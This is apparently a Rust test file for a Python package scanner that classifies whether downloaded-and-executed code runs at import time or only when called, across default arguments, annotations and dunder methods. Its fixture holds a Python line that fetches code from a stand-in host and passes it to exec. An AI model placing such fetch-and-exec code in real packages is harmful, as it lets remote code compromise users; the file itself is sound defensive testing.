//! When does what of a module run? Python computes and calls more than stands there as a call.

use crate::flow::analyse;
use crate::package::Package;
use crate::unpack::{Tree, text_file as file};
use customs_model::{SinkKind, SourceKind, Zone};

const WORK: &str = "\
import urllib.request

def work(*given):
    exec(urllib.request.urlopen('https://a.invalid/b').read())

";

/// When a module with this code runs what it downloads.
fn runs(code: &str) -> Zone {
    let entries = vec![
        file("a/__init__.py", &format!("{WORK}{code}")),
        file("a-1.0.dist-info/METADATA", "Name: a\nVersion: 1.0\n"),
    ];
    let found = analyse(&Package::new(&Tree {
        entries,
        ..Tree::default()
    }));
    let mut zones = found
        .flows
        .iter()
        .filter(|flow| flow.source == SourceKind::Remote && flow.sink == SinkKind::DynamicCode);
    zones.next().map_or(Zone::Never, |flow| flow.zone)
}

#[test]
fn what_a_parameter_is_by_default_is_computed_where_the_function_is_defined() {
    assert_eq!(runs("def f(x=work()):\n    pass\n"), Zone::Import);
    assert_eq!(runs("def f(*, x=work()):\n    pass\n"), Zone::Import);
    assert_eq!(runs("f = lambda x=work(): x\n"), Zone::Import);
    assert_eq!(
        runs("class C:\n    def f(self, x=work()):\n        pass\n"),
        Zone::Import
    );
    // What is written in the body waits.
    assert_eq!(runs("def f(x=None):\n    work()\n"), Zone::Called);
    assert_eq!(runs("f = lambda x=None: work()\n"), Zone::Called);
}

#[test]
fn a_type_that_calls_is_computed_where_it_stands() {
    assert_eq!(runs("x: work() = 1\n"), Zone::Import);
    assert_eq!(runs("x: work()\n"), Zone::Import);
    assert_eq!(runs("def f(x: work()):\n    pass\n"), Zone::Import);
    assert_eq!(runs("def f() -> work():\n    pass\n"), Zone::Import);
    assert_eq!(runs("x: 'work()' = 1\n"), Zone::Called);
}

#[test]
fn methods_that_python_calls_by_itself_run_where_it_does() {
    let class = |method: &str, after: &str| {
        let code = format!("class C:\n    def {method}(self, *given):\n        work()\n\n{after}");
        runs(&code)
    };
    assert_eq!(class("__enter__", "with C():\n    pass\n"), Zone::Import);
    assert_eq!(
        class("__exit__", "with C() as c:\n    pass\n"),
        Zone::Import
    );
    assert_eq!(class("__new__", "C()\n"), Zone::Import);
    assert_eq!(class("__post_init__", "C()\n"), Zone::Import);
    assert_eq!(
        class("__set_name__", "class D:\n    x = C()\n"),
        Zone::Import
    );
    assert_eq!(
        class("__init_subclass__", "class D(C):\n    pass\n"),
        Zone::Import
    );
    // Nobody makes one, enters one or inherits from it.
    for method in ["__enter__", "__new__", "__init_subclass__"] {
        assert_eq!(class(method, ""), Zone::Called, "{method}");
    }
    assert_eq!(class("__enter__", "C()\n"), Zone::Called);
}
